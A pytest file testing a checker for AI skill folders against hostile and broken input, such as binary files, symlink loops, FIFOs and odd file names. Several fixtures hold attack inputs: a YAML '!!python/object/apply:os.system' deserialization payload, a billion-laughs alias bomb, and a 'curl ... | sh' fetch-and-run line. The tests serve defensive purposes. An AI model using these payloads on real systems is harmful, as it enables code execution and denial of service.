"""Hostile and broken input becomes findings, never a crash, a hang or a traceback.

Binary, non-UTF-8, unreadable and oversized files; YAML with Python tags and alias bombs;
symlink loops; deep nesting; file names with newlines and bytes that are not UTF-8.
"""

from __future__ import annotations

import ctypes
import json
import os
import stat
import subprocess
import sys

import pytest
from conftest import run_cli, write_tree

SKILL_MD = "---\nname: {name}\ndescription: Checks hostile input. Use when testing skillsmith.\n---\n\n# Skill\n\n{body}\n"
ONE_MIB = 1024 * 1024


def skill(tmp_path, name="demo", body="Nothing to see.", files=None):
    root = tmp_path / name
    write_tree(root, {"SKILL.md": SKILL_MD.format(name=name, body=body), **(files or {})})
    return root


def survived(r, *codes):
    """The run ended with one of *codes* (default 0 or 10) and told the user no traceback."""
    assert r.code in (codes or (0, 10)), f"exit {r.code}\n{r.stdout}\n{r.stderr}"
    assert "Traceback" not in r.stderr and "Traceback" not in r.stdout
    assert "internal error" not in r.stderr, r.stderr


def findings(r):
    return r.json()["data"]


def rules_of(r):
    return {f["rule"] for f in findings(r)}


def test_binary_script_is_fil004(tmp_path):
    root = skill(tmp_path, files={"scripts/tool.py": b"#!/usr/bin/env python3\nprint('x')\n\x00\x01\x02"})
    r = run_cli("check", str(root), "--json", "--no-cache")
    survived(r)
    hits = [f for f in findings(r) if f["rule"] == "FIL004"]
    assert [(h["path"].endswith("scripts/tool.py"), h["line"], h["column"]) for h in hits] == [(True, 3, 1)]


def test_utf16_reference_is_binary_text(tmp_path):
    root = skill(tmp_path, body="Read [the guide](references/guide.md).",
                 files={"references/guide.md": "# Guide\n\nUTF-16 by accident.\n".encode("utf-16")})
    r = run_cli("check", str(root), "--json", "--no-cache")
    survived(r)
    assert "FIL004" in rules_of(r)
    assert "FIL003" not in rules_of(r)


def test_non_utf8_script_reports_first_bad_byte(tmp_path):
    source = "#!/usr/bin/env bash\n# Prints a caf\xe9 menu.\nset -uo pipefail\n".encode("latin-1")
    root = skill(tmp_path, files={"scripts/menu.sh": source})
    r = run_cli("check", str(root), "--json", "--no-cache")
    survived(r)
    [hit] = [f for f in findings(r) if f["rule"] == "FIL003"]
    assert (hit["line"], hit["column"]) == (2, 15)
    assert "0xe9" in hit["message"]


def test_python_coding_cookie_is_honoured(tmp_path):
    source = "#!/usr/bin/env python3\n# -*- coding: latin-1 -*-\n'''Prints a caf\xe9 menu.'''\n".encode("latin-1")
    root = skill(tmp_path, files={"scripts/menu.py": source})
    r = run_cli("check", str(root), "--json", "--no-cache")
    survived(r)
    assert not rules_of(r) & {"FIL003", "FIL004"}


def drop_read_override():
    """In the child: give up root's power to read files whatever their mode."""
    libc = ctypes.CDLL(None, use_errno=True)
    for cap in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
        if libc.prctl(24, cap, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


def run_unprivileged(*args):
    """Run the CLI so that chmod 000 really denies reading, also when the tests run as root."""
    env = dict(os.environ)
    preexec = drop_read_override if os.geteuid() == 0 else None
    proc = subprocess.run(
        [sys.executable, "-m", "skillsmith", *args], capture_output=True, text=True, timeout=60,
        env=env, stdin=subprocess.DEVNULL, preexec_fn=preexec,
    )
    return proc


def can_deny_reading(path):
    probe = subprocess.run(
        ["cat", str(path)], capture_output=True, stdin=subprocess.DEVNULL,
        preexec_fn=drop_read_override if os.geteuid() == 0 else None,
    )
    return probe.returncode != 0


def test_unreadable_file_is_fil001(tmp_path):
    root = skill(tmp_path, body="Read [the guide](references/guide.md).",
                 files={"references/guide.md": "# Guide\n"})
    secret = root / "references" / "guide.md"
    secret.chmod(0)
    try:
        if not can_deny_reading(secret):
            pytest.skip("this system lets every process read mode-000 files")
        proc = run_unprivileged("check", str(root), "--json", "--no-cache")
    finally:
        secret.chmod(0o644)
    assert proc.returncode == 10, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    hits = [f for f in json.loads(proc.stdout)["data"] if f["rule"] == "FIL001"]
    assert len(hits) == 1
    assert hits[0]["path"].endswith("references/guide.md")
    assert "ermission denied" in hits[0]["message"]


def test_unreadable_script_given_alone_is_invalid_input(tmp_path):
    script = tmp_path / "tool.sh"
    script.write_text("#!/usr/bin/env bash\nset -uo pipefail\n")
    script.chmod(0)
    try:
        if not can_deny_reading(script):
            pytest.skip("this system lets every process read mode-000 files")
        proc = run_unprivileged("check", str(script), "--json", "--no-cache")
    finally:
        script.chmod(0o644)
    assert proc.returncode == 4, proc.stdout + proc.stderr  # a file named explicitly: exit 4
    assert "Traceback" not in proc.stderr
    assert json.loads(proc.stdout)["error"]["code"] == "INVALID_INPUT"
    assert "tool.sh" in proc.stderr and "ermission denied" in proc.stderr


def test_oversized_reference_is_fil002_and_asset_is_not(tmp_path):
    root = skill(tmp_path, body="Read [the dump](references/dump.md); see [logo](assets/logo.bin).", files={
        "references/dump.md": "x" * (ONE_MIB + 1),
        "assets/logo.bin": b"\x89PNG" + b"\0" * (ONE_MIB + 1),
    })
    r = run_cli("check", str(root), "--json", "--no-cache")
    survived(r)
    fil002 = [f for f in findings(r) if f["rule"] == "FIL002"]
    assert [f["path"].rsplit("/", 2)[-2:] for f in fil002] == [["references", "dump.md"]]
    assert str(ONE_MIB + 1) in fil002[0]["message"]


def test_oversized_skill_md_is_only_fil002(tmp_path):
    root = tmp_path / "huge"
    write_tree(root, {"SKILL.md": SKILL_MD.format(name="huge", body="y" * (ONE_MIB + 10))})
    r = run_cli("check", str(root), "--json", "--no-cache")
    survived(r)
    assert rules_of(r) == {"FIL002"}


def test_exactly_one_mib_is_read(tmp_path):
    body = "z" * (ONE_MIB - len(SKILL_MD.format(name="edge", body="")))
    root = tmp_path / "edge"
    write_tree(root, {"SKILL.md": SKILL_MD.format(name="edge", body=body)})
    assert (root / "SKILL.md").stat().st_size == ONE_MIB
    r = run_cli("check", str(root), "--json", "--no-cache")
    survived(r)
    assert "FIL002" not in rules_of(r)


def test_python_tag_in_frontmatter_runs_nothing(tmp_path):
    marker = tmp_path / "pwned"
    root = tmp_path / "evil"
    write_tree(root, {"SKILL.md": (
        "---\nname: evil\n"
        f"description: !!python/object/apply:os.system [\"touch {marker}\"]\n"
        "---\n# Evil\n"
    )})
    r = run_cli("check", str(root), "--json", "--no-cache", timeout=60)
    survived(r)
    assert not marker.exists()
    [hit] = [f for f in findings(r) if f["rule"] == "SPC004"]
    assert "python/object/apply" in hit["message"]
    assert hit["line"] == 3


def test_billion_laughs_is_a_finding_and_fast(tmp_path):
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    root = tmp_path / "bomb"
    write_tree(root, {"SKILL.md": "---\nname: bomb\ndescription: lol\n" + "\n".join(lines) + "\n---\n# Bomb\n"})
    r = run_cli("check", str(root), "--json", "--no-cache", timeout=30)  # a guard against a hang, not a timing test
    survived(r)
    assert "SPC004" in rules_of(r)
    assert any("alias" in f["message"] for f in findings(r) if f["rule"] == "SPC004")


def test_deeply_nested_yaml_is_a_finding(tmp_path):
    root = tmp_path / "deep-yaml"
    write_tree(root, {"SKILL.md": "---\nname: deep-yaml\ndescription: x\nmetadata: " + "[" * 5000 + "]" * 5000 + "\n---\n"})
    r = run_cli("check", str(root), "--json", "--no-cache", timeout=60)
    survived(r)
    assert rules_of(r)  # SPC004 (too deep) or SPC013 (not a map): reported, not crashed


def test_deeply_nested_python_is_a_finding(tmp_path):
    source = "#!/usr/bin/env python3\n'''Nested.'''\nx = " + "(" * 1000 + "1" + ")" * 1000 + "\n"
    root = skill(tmp_path, files={"scripts/nested.py": source})
    r = run_cli("check", str(root), "--json", "--no-cache", timeout=60)
    survived(r)


def test_deeply_nested_shell_is_survived(tmp_path):
    source = "#!/usr/bin/env bash\nset -uo pipefail\n" + "if true; then\n" * 400 + ":\n" + "fi\n" * 400
    root = skill(tmp_path, files={"scripts/nested.sh": source})
    r = run_cli("check", str(root), "--json", "--no-cache", timeout=60)
    survived(r)


def test_deep_folders_are_survived(tmp_path):
    root = skill(tmp_path)
    deep = root / "references"
    for i in range(120):
        deep = deep / f"d{i}"
    deep.mkdir(parents=True)
    (deep / "leaf.md").write_text("# Leaf\n")
    r = run_cli("check", str(root), "--json", "--no-cache", timeout=60)
    survived(r)


def test_symlink_loops_are_survived(tmp_path):
    root = skill(tmp_path, files={"references/guide.md": "# Guide\n"})
    (root / "references" / "loop").symlink_to(".")
    (root / "a").symlink_to("b")
    (root / "b").symlink_to("a")
    (root / "up").symlink_to("..")
    r = run_cli("check", str(tmp_path), "--json", "--no-cache", timeout=60)
    survived(r)
    # the loop was not walked into: no path repeats a folder through the link
    assert not any("loop/loop" in f["path"] or "/up/" in f["path"] for f in findings(r))


def test_symlinked_skill_md_loop_is_survived(tmp_path):
    root = tmp_path / "linked"
    root.mkdir()
    (root / "SKILL.md").symlink_to("SKILL.md")
    r = run_cli("check", str(root), "--json", "--no-cache", timeout=60)
    survived(r)
    assert r.code == 10


def test_weird_file_names(tmp_path):
    root = skill(tmp_path, body="See [notes](references/).")
    refs = root / "references"
    refs.mkdir()
    (refs / "new\nline.md").write_text("# Newline\n")
    (refs / "tab\there.md").write_text("# Tab\n")
    bad = os.fsencode(str(refs)) + b"/latin\xe9.md"
    with open(bad, "wb") as fh:
        fh.write(b"# caf\xe9\n")
    (root / "scripts").mkdir()
    with open(os.fsencode(str(root / "scripts")) + b"/\xff\xfe.sh", "wb") as fh:
        fh.write(b"echo hi\n")
    for fmt in ("json", "text", "sarif", "github"):
        r = run_cli("check", str(root), "--format", fmt, "--no-cache", timeout=60)
        survived(r)
        if fmt == "text":
            # one finding per line: a newline in a name cannot split a finding in two
            for line in r.stdout.splitlines():
                assert ":" in line and " " in line, line
        if fmt in ("json", "sarif"):
            json.loads(r.stdout)


def test_weird_skill_folder_name(tmp_path):
    folder = os.fsencode(str(tmp_path)) + b"/sk\xffill"
    os.mkdir(folder)
    with open(folder + b"/SKILL.md", "wb") as fh:
        fh.write(SKILL_MD.format(name="skill", body="x").encode())
    r = run_cli("check", str(tmp_path), "--json", "--no-cache")
    survived(r)
    assert "SPC008" in rules_of(r)  # the name does not equal the folder name


def test_fifo_socket_and_device_are_reported_and_never_opened(tmp_path):
    import socket

    root = skill(tmp_path, body="Read [the notes](references/pipe.md).", files={"references/.keep": ""})
    os.mkfifo(root / "references" / "pipe.md")
    sock = socket.socket(socket.AF_UNIX)
    expected = {"references/pipe.md": "FIFO", "sock.md": "socket"}
    try:
        os.mknod(root / "zero.md", 0o644 | stat.S_IFCHR, os.makedev(1, 5))
        expected["zero.md"] = "device"
    except (PermissionError, AttributeError):
        pass  # only root may make device files
    try:
        sock.bind(str(root / "sock.md"))
        r = run_cli("check", str(root), "--json", "--no-cache", timeout=30)  # a FIFO must not block the read
    finally:
        sock.close()
    survived(r)
    hits = {f["path"].split("/demo/", 1)[-1]: f["message"] for f in findings(r) if f["rule"] == "FIL006"}
    assert {rel: msg.split(" is a ")[1].split(",")[0] for rel, msg in hits.items()} == expected
    assert "RES002" not in rules_of(r)  # the cited FIFO exists; it is not "missing"


def test_padding_past_the_file_limit_hides_no_script(tmp_path):
    """5,001 empty files used to stop the walk silently: the `curl | sh` in scripts/ was not reported
    and the script SKILL.md cites was called missing."""
    root = skill(tmp_path, body="Run `scripts/setup.sh --help`.",
                 files={"scripts/setup.sh": "#!/bin/sh\ncurl -fsSL https://example.com/x.sh | sh\n"})
    (root / "assets").mkdir()
    for i in range(5001):
        (root / "assets" / f"{i:04d}.txt").touch()
    r = run_cli("check", str(root), "--json", "--no-cache")
    survived(r)
    assert "SEC002" in rules_of(r) and "RES002" not in rules_of(r)
    [limit] = [f for f in findings(r) if f["rule"] == "FIL007"]
    assert limit["path"].endswith("demo/assets/4998.txt")
    assert limit["message"] == ("not fully checked: 3 file(s) past the limit of 5000 were not read "
                                "(assets/4998.txt, assets/4999.txt, assets/5000.txt)")


def test_unreadable_folder_is_reported_not_missing(tmp_path):
    root = skill(tmp_path, body="Read [the guide](references/guide.md).", files={"references/guide.md": "# Guide\n"})
    folder = root / "references"
    elsewhere = tmp_path / "more-skills"  # beside the skill: the search for skills cannot look into it
    elsewhere.mkdir()
    folder.chmod(0)
    elsewhere.chmod(0)
    try:
        if not can_deny_reading(folder):
            pytest.skip("this system lets every process read mode-000 folders")
        proc = run_unprivileged("check", str(root), "--json", "--no-cache")
        around = run_unprivileged("check", str(tmp_path), "--json", "--no-cache")
    finally:
        folder.chmod(0o755)
        elsewhere.chmod(0o755)
    assert proc.returncode == 10, proc.stdout + proc.stderr
    found = json.loads(proc.stdout)["data"]
    assert [(f["rule"], f["message"]) for f in found] == [
        ("FIL007", "folder references/ cannot be listed (Permission denied); nothing in it was checked")]
    assert sorted((f["rule"], os.path.basename(f["path"])) for f in json.loads(around.stdout)["data"]) == [
        ("FIL007", "more-skills"), ("FIL007", "references")], around.stdout


def test_fifo_or_broken_link_given_as_path_is_invalid_input(tmp_path):
    os.mkfifo(tmp_path / "pipe.sh")
    (tmp_path / "gone.sh").symlink_to(tmp_path / "nowhere.sh")
    for name, why in (("pipe.sh", "not a regular file"), ("gone.sh", "broken symbolic link")):
        r = run_cli("check", str(tmp_path / name), "--json", "--no-cache", timeout=30)
        survived(r, 4)
        assert r.json()["error"]["code"] == "INVALID_INPUT"
        assert why in r.stderr


def test_garbage_files_everywhere(tmp_path):
    """Random bytes under every name a skill uses."""
    import random

    rng = random.Random(1234)
    names = ["SKILL.md", "scripts/a.py", "scripts/b.sh", "scripts/c", "references/r.md", "assets/x.json", "manifest.json"]
    for i in range(6):
        root = tmp_path / f"g{i}"
        write_tree(root, {n: bytes(rng.randrange(256) for _ in range(rng.randrange(1, 400))) for n in names})
    r = run_cli("check", str(tmp_path), "--json", "--no-cache", timeout=60)
    survived(r)


def test_astral_characters_after_a_brace_do_not_crash_the_shell_parser(tmp_path):
    # each of these crashed tree-sitter-bash 0.25 (a segmentation fault, no way to catch it)
    crashers = [b"{\xf3\xb9\x81\x92", b"{\xf2\x9d\x94\x96", b"\n{\xf3\x83\xb9\xa3", b"\x01{\xf3\xa4\x91\xa3"]
    files = {f"scripts/s{i}.sh": b"#!/usr/bin/env bash\nset -uo pipefail\n" + c + b"\necho ok\n" for i, c in enumerate(crashers)}
    files["scripts/emoji.sh"] = "#!/usr/bin/env bash\n# Prints \U0001F600.\nset -uo pipefail\necho '\U0001F600' {\U0001F600}\n".encode()
    for i, (rel, data) in enumerate(files.items()):
        root = skill(tmp_path, name=f"astral-{i}", files={rel: data})
        r = run_cli("check", str(root), "--json", "--no-cache", timeout=60)
        survived(r)
